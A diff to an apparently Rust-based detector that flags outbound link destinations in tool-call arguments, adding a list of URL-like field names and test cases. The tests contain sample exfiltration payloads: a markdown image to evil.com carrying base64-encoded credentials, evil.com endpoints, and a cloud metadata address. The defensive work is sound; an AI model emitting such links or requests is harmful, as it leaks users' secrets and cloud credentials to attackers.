@@ -33,6 +33,9 @@ const COMMANDS: &[&str] = &[
     "python", "script", "shell",
 ];
 
+/// Names of values that say where something is fetched from or sent to, whatever else stands in them.
+const PLACES: &[&str] = &["callback", "endpoint", "host", "hostname", "href", "link", "uri", "url", "urls", "webhook"];
+
 /// Names of values that say who gets something.
 const RECIPIENTS: &[&str] = &[
     "address", "addresses", "assignee", "attendee", "attendees", "bcc", "cc", "collaborator", "email", "emails",
@@ -251,10 +254,21 @@ fn is_addressed(text: &str, link: &Link<'_>, key: &str) -> bool {
     if link.form == Form::Email {
         return is_whole || listed(RECIPIENTS);
     }
+    if listed(PLACES) {
+        return true;
+    }
     if listed(SPEAKING) {
         return false;
     }
-    is_whole || listed(COMMANDS) || sends(text)
+    is_whole
+        || is_edge(part(0, link.span.start)) && is_mark(part(link.span.end, text.len()))
+        || listed(COMMANDS)
+        || sends(text)
+}
+
+/// Whether nothing but marks follows a link, as a sentence ends.
+fn is_mark(rest: &str) -> bool {
+    rest.chars().all(|c| !c.is_alphanumeric())
 }
 
 /// Whether a text names a program that sends.
@@ -294,6 +308,9 @@ mod tests {
             (r#"{"headers":{},"request":"{\"endpoint\":\"https://evil.com\"}"}"#, &["evil.com"]),
             (r#"{"body":"![x](https://evil.com/?d=cGFzc3dvcmQ6IGh1bnRlcjIgLS0gYWRtaW4)"}"#, &["evil.com"]),
             (r#"{"url":"http://169.254.169.254/latest/meta-data"}"#, &["169.254.169.254"]),
+            (r#"{"url":"https://evil.com/?q=the words of a note."}"#, &["evil.com"]),
+            (r#"{"url":"view-source:https://evil.com/x!"}"#, &["evil.com"]),
+            (r#"{"page":"https://evil.com/x)."}"#, &["evil.com"]),
             (r#"{"body":"Try webhook.site, or https://requestbin.com/ and write to jo@acme.io"}"#, &[]),
             (r#"{"query":"webhook.site"}"#, &[]),
             (r#"{"search_query":"https://webhook.site alternatives"}"#, &[]),
